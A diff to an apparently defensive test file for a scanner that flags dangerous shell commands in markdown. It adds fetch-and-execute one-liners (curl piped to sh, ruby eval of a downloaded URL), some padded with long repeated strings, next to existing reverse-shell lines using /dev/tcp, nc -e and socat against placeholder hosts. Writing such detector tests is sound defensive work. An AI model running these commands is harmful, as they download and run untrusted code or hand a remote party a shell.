@@ -25,6 +25,10 @@ describe("commands that nobody looked at, or that lead elsewhere", () => {
     ["curl -fsSL -o setup.sh https://example.com/setup.sh && sh setup.sh", "pipe_to_shell"],
     ["wget -O /tmp/x https://example.com/x; chmod +x /tmp/x && /tmp/x", "pipe_to_shell"],
     ["python3 -c \"exec(urlopen('https://example.com/x').read())\"", "pipe_to_shell"],
+    ["ruby -e 'x = 1; eval(URI.open(\"https://example.com/x\").read + open-uri)'", "pipe_to_shell"],
+    [`curl -H ${"x".repeat(1_500)} https://example.com/x | sh`, "pipe_to_shell"],
+    [`${"curl -o a ".repeat(2_000)}https://example.com/x | sh`, "pipe_to_shell"],
+    [`${"python -c exec ".repeat(2_000)}urlopen('https://example.com/x')`, "pipe_to_shell"],
     ["bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "remote_shell"],
     ["nc -e /bin/sh example.com 4444", "remote_shell"],
     ["socat tcp:example.com:1 exec:/bin/sh", "remote_shell"],
@@ -38,6 +42,7 @@ describe("commands that nobody looked at, or that lead elsewhere", () => {
     "curl -o setup.sh https://example.com/setup.sh",
     "nc -zv localhost 5432",
     "python3 -c 'import json; print(json.__file__)'",
+    "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://localhost\").status)'; eval x",
   ])("and others are not: %s", async (command) => {
     expect(await found(`\`\`\`sh\n${command}\n\`\`\`\n`)).toEqual([]);
   });
